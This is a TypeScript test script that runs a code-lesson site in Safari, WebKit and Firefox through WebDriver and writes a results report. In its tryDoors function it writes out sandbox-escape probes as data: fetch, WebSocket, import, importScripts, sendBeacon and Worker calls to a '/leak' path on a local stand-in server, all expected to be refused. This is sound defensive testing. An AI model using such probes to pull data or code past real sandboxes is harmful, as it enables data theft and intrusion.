// npm run browsers [-- --port 4393]
// The built site in the browsers that Playwright cannot drive as they are installed: Safari (safaridriver), WebKit
// (WebKitWebDriver, from Debian's webkit2gtk-driver) and Firefox (geckodriver), as far as they are there. Every cell of
// every lesson runs to its end, an error is shown at its line, an endless loop stops within a second, and nothing
// leaves the sandbox. Writes bench/results/browsers.md; ends with 1 when something fails. Needs `npm run build`
// before, and a screen: without one, `xvfb-run npm run browsers`.
import { readdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { parseArgs } from 'node:util';
import { serve } from '../scripts/serve.mjs';
import { giveUp, root } from '../scripts/steps.mjs';
import { type Browser, drivers, openBrowser, until } from '../scripts/webdriver.ts';

const { values: options } = parseArgs({ options: { port: { type: 'string', default: '4393' } } });
const port = Number(options.port);
const site = await serve({ port, base: '/unrolled/' });
const lessons = readdirSync(join(root, 'dist', 'lessons'), { withFileTypes: true })
  .filter(entry => entry.isDirectory())
  .map(entry => entry.name);

/** In the page: the code cell that stands at `index` among those that are no exercises. */
const cellAt = 'index => document.querySelectorAll("section.code-cell:not(.exercise *)")[index]';
const buttonOf =
  '(cell, name) => [...cell.querySelectorAll("button")].find(b => b.textContent.trim() === name)';

/** What was tried in a browser, whether it went well, and what was seen. */
interface Row {
  readonly what: string;
  readonly isWell: boolean;
  readonly seen: readonly string[];
}

async function openLesson(browser: Browser, slug: string): Promise<void> {
  await browser.goTo(`${site}lessons/${slug}/`);
  const isLive = () => browser.evaluate('() => document.documentElement.hasAttribute("data-live")');
  await until(isLive, 20_000, `${slug} to become live`);
}

const statusOf = (browser: Browser, index: number): Promise<string> =>
  browser.evaluate(`index => (${cellAt})(index).querySelector('[role=status]').textContent`, index);

async function press(browser: Browser, index: number, name: string): Promise<void> {
  await browser.evaluate(
    `(index, name) => { const cell = (${cellAt})(index); cell.scrollIntoView({ block: 'center' }); (${buttonOf})(cell, name).click(); }`,
    index,
    name,
  );
}

/** Presses Run and waits for the end; gives the status line. */
async function run(browser: Browser, index: number): Promise<string> {
  await press(browser, index, 'Run');
  await wait(100);
  const ended = async () => {
    const status = await statusOf(browser, index);
    return /^(Done|Failed|Stopped)/.test(status) ? status : null;
  };
  return until(ended, 120_000, 'the program to end');
}

/** Replaces the first cell's program, by pasting. */
async function setCode(browser: Browser, code: string): Promise<void> {
  const editor = `[...(${cellAt})(0).querySelectorAll('[aria-label=Code]')].find(e => e.matches('[role=textbox]:not([aria-readonly=true]), textarea:not([readonly])'))`;
  await browser.evaluate(`() => (${cellAt})(0).scrollIntoView()`);
  await until(() => browser.evaluate(`() => Boolean(${editor})`), 30_000, 'the editor');
  await browser.evaluate(`() => ${editor}.focus()`);
  await browser.selectAll();
  await browser.evaluate(
    `code => {
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/plain', code);
      ${editor}.dispatchEvent(new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true }));
    }`,
    code,
  );
  await wait(400);
}

const textOf = (browser: Browser): Promise<string> => browser.evaluate(`() => (${cellAt})(0).innerText`);
const logOf = (browser: Browser): Promise<string> =>
  browser.evaluate(`() => (${cellAt})(0).querySelector('[role=log]')?.innerText ?? ''`);

async function tryCells(browser: Browser): Promise<Row[]> {
  const rows: Row[] = [];
  for (const slug of lessons) {
    await openLesson(browser, slug);
    const names: string[] = await browser.evaluate(
      `() => [...document.querySelectorAll('section.code-cell:not(.exercise *)')].map(cell => cell.getAttribute('aria-label'))`,
    );
    for (const [index, name] of names.entries()) {
      const status = await run(browser, index);
      const [, state = '', seconds = '', backend = ''] =
        /^(\w+)(?: in ([\d.]+ s))?(?: on (\w+))?/.exec(status) ?? [];
      rows.push({ what: `${slug}: ${name}`, isWell: state === 'Done', seen: [state, seconds, backend] });
    }
  }
  return rows;
}

async function tryError(browser: Browser): Promise<Row> {
  await setCode(
    browser,
    'const one: number = 1;\nfunction fall(): never {\n  throw new Error(String(one));\n}\nfall();\n',
  );
  await run(browser, 0);
  const text = await textOf(browser);
  const seen = /Error in line \d+: 1/.exec(text)?.[0] ?? 'no error shown';
  return { what: 'An error in line 3', isWell: seen === 'Error in line 3: 1', seen: [seen] };
}

async function tryEndlessLoop(browser: Browser): Promise<Row> {
  await setCode(browser, 'for (;;);\n');
  await press(browser, 0, 'Run');
  await until(async () => (await statusOf(browser, 0)).startsWith('Running'), 20_000, 'the loop to run');
  await wait(500);
  const ms: number = await browser.evaluate(
    `async () => {
      const cell = (${cellAt})(0);
      const begun = performance.now();
      (${buttonOf})(cell, 'Stop').click();
      while (!cell.querySelector('[role=status]').textContent.startsWith('Stopped') && performance.now() - begun < 10_000)
        await new Promise(resolve => setTimeout(resolve, 5));
      return performance.now() - begun;
    }`,
  );
  return { what: 'An endless loop, stopped', isWell: ms < 1_000, seen: [`${ms.toFixed(0)} ms`] };
}

/** The doors that a program may try, to a stranger's server and to the site's own. */
async function tryDoors(browser: Browser): Promise<Row[]> {
  const hits: (string | undefined)[] = [];
  const stranger = createServer((request, response) => {
    hits.push(request.url);
    response.setHeader('access-control-allow-origin', '*');
    response.end('export default 1');
  });
  await new Promise<void>(resolve => stranger.listen(0, '127.0.0.1', resolve));
  const { port: strangersPort } = stranger.address() as AddressInfo;
  const rows: Row[] = [];
  for (const [whose, origin] of [
    ['another server', `http://127.0.0.1:${strangersPort}`],
    ['the site', new URL(site).origin],
  ] as const) {
    const doors = {
      fetch: `await fetch('${origin}/leak', { mode: 'no-cors' })`,
      'inherited fetch': `await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, '${origin}/leak')`,
      XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', '${origin}/leak', false); x.send()`,
      WebSocket: `await new Promise((open, fail) => { const s = new WebSocket('${origin.replace('http', 'ws')}/leak'); s.onopen = open; s.onerror = fail; })`,
      EventSource: `await new Promise((open, fail) => { const s = new EventSource('${origin}/leak'); s.onopen = open; s.onerror = fail; })`,
      import: `await import('${origin}/' + 'leak.js')`,
      importScripts: `importScripts('${origin}/leak.js')`,
      sendBeacon: `if (!navigator.sendBeacon('${origin}/leak')) throw new Error('refused')`,
      Worker: `await new Promise((open, fail) => { const w = new Worker('${origin}/leak.js'); w.onmessage = open; w.onerror = fail; })`,
      eval: `(0, eval)('1')`,
      indexedDB: `indexedDB.open('leak')`,
      caches: `await caches.open('leak')`,
      BroadcastChannel: `new BroadcastChannel('leak')`,
    };
    const attempts = Object.entries(doors).map(
      ([name, attempt]) =>
        `try { ${attempt}; console.log('${name}: open'); } catch { console.log('${name}: refused'); }`,
    );
    await setCode(browser, attempts.join('\n'));
    await run(browser, 0);
    const log = await logOf(browser);
    const refused = Object.keys(doors).filter(name => log.includes(`${name}: refused`));
    const isWell = refused.length === Object.keys(doors).length && !log.includes(': open');
    const seen = `${refused.length} of ${Object.keys(doors).length} refused`;
    rows.push({ what: `Doors to ${whose}`, isWell, seen: [seen] });
  }
  rows.push({
    what: 'Requests that reached the other server',
    isWell: hits.length === 0,
    seen: [`${hits.length}`],
  });
  stranger.close();
  return rows;
}

const sections: { name: string; agent: string; rows: Row[] }[] = [];
for (const [i, driver] of drivers.entries()) {
  const browser = await openBrowser(driver, port + 1 + i);
  if (!browser) {
    console.log(`${driver.command} is not installed.`);
    continue;
  }
  console.log(browser.name);
  const rows = await tryCells(browser);
  await openLesson(browser, 'sine-wave');
  rows.push(await tryError(browser), await tryEndlessLoop(browser), ...(await tryDoors(browser)));
  for (const { what, isWell, seen } of rows)
    console.log(`${isWell ? 'well' : 'NOT WELL'}  ${what}: ${seen.join(' ')}`);
  sections.push({ name: browser.name, agent: await browser.evaluate('() => navigator.userAgent'), rows });
  await browser.close();
}
if (sections.length === 0)
  giveUp('No other browser can be driven here. Install one: on Debian, apt install webkit2gtk-driver xvfb.');
const tables = sections.map(
  ({ name, agent, rows }) => `## ${name}

${agent}

| what | seen |
|---|---|
${rows.map(({ what, isWell, seen }) => `| ${what} | ${isWell ? '' : '**not well:** '}${seen.filter(Boolean).join(', ')} |`).join('\n')}
`,
);
writeFileSync(
  join(root, 'bench', 'results', 'browsers.md'),
  `# The site in other browsers

\`npm run browsers\`, ${new Date().toISOString().slice(0, 10)}. Every cell of every lesson to its end, with the backend that the page chose there.

${tables.join('\n')}`,
);
process.exit(sections.every(({ rows }) => rows.every(({ isWell }) => isWell)) ? 0 : 1);
